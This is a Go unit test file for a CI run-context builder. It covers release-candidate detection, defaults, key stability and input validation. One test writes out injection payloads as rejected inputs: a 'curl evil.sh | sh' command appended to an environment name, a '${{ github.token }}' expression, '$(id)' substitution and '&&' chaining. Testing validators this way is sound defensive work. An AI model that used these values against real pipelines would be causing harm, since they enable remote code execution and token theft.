package ir

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestIsReleaseCandidate(t *testing.T) {
	tests := []struct {
		version string
		want    bool
	}{
		{"3006.1-0-rc1", true},
		{"3007.0rc2", true},
		{"3.0.0", false},
		{"3006.1", false},
		{"", false},
	}
	for _, tt := range tests {
		t.Run(tt.version, func(t *testing.T) {
			assert.Equal(t, tt.want, IsReleaseCandidate(tt.version))
		})
	}
}

func TestNewContextDefaultsEnvironment(t *testing.T) {
	ctx, err := NewContext(ContextInput{Version: "3.0.0", Trigger: TriggerManual})
	require.NoError(t, err)

	assert.Equal(t, DefaultEnvironment, ctx.Environment)
	assert.True(t, ctx.Nightly())
	assert.True(t, ctx.Manual())
	assert.False(t, ctx.ReleaseCandidate)
}

func TestNewContextDerivesReleaseCandidate(t *testing.T) {
	ctx, err := NewContext(ContextInput{Environment: "staging", Version: "3006.1-0-rc1", Trigger: TriggerSchedule})
	require.NoError(t, err)

	assert.True(t, ctx.ReleaseCandidate)
	assert.False(t, ctx.Nightly())
	assert.False(t, ctx.Manual())
}

func TestNewContextRequiresVersionAndTrigger(t *testing.T) {
	_, err := NewContext(ContextInput{Trigger: TriggerSchedule})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "version")

	_, err = NewContext(ContextInput{Version: "1.0"})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "trigger")
}

func TestContextKeyStable(t *testing.T) {
	in := ContextInput{Environment: "staging", Version: "3.0.0", Trigger: TriggerManual, Repository: "org/repo"}
	a, err := NewContext(in)
	require.NoError(t, err)
	b, err := NewContext(in)
	require.NoError(t, err)

	assert.Equal(t, a.Key(), b.Key())

	in.RunID = "42"
	c, err := NewContext(in)
	require.NoError(t, err)
	assert.NotEqual(t, a.Key(), c.Key())
}

func TestNewContextRejectsUnsafeValues(t *testing.T) {
	tests := []struct {
		name  string
		in    ContextInput
		field string
	}{
		{"shell in environment", ContextInput{Environment: "nightly; curl evil.sh | sh #", Version: "1.0", Trigger: TriggerPush}, "environment"},
		{"expression in environment", ContextInput{Environment: "${{ github.token }}", Version: "1.0", Trigger: TriggerPush}, "environment"},
		{"uppercase environment", ContextInput{Environment: "Staging", Version: "1.0", Trigger: TriggerPush}, "environment"},
		{"space in version", ContextInput{Version: "1.0 --force", Trigger: TriggerPush}, "version"},
		{"substitution in version", ContextInput{Version: "$(id)", Trigger: TriggerPush}, "version"},
		{"trigger", ContextInput{Version: "1.0", Trigger: "push && true"}, "trigger"},
		{"repository", ContextInput{Version: "1.0", Trigger: TriggerPush, Repository: "org/repo/extra"}, "repository"},
		{"actor", ContextInput{Version: "1.0", Trigger: TriggerPush, Actor: "bad actor"}, "actor"},
		{"run id", ContextInput{Version: "1.0", Trigger: TriggerPush, RunID: "1;2"}, "run_id"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := NewContext(tt.in)
			require.Error(t, err)
			assert.Contains(t, err.Error(), tt.field+" ")
		})
	}
}

func TestNewContextReportsEveryField(t *testing.T) {
	_, err := NewContext(ContextInput{Environment: "a b", Version: "1 0"})
	require.Error(t, err)

	assert.Contains(t, err.Error(), "environment")
	assert.Contains(t, err.Error(), "version")
	assert.Contains(t, err.Error(), "trigger is required")
}

func TestNewContextAcceptsRunnerValues(t *testing.T) {
	ctx, err := NewContext(ContextInput{
		Environment: "release",
		Version:     "3006.1-0-rc1+build.7",
		Trigger:     TriggerPullRequest,
		Repository:  "saltstack/salt",
		Actor:       "dependabot[bot]",
		RunID:       "1234567890",
	})
	require.NoError(t, err)
	assert.True(t, ctx.ReleaseCandidate)
}
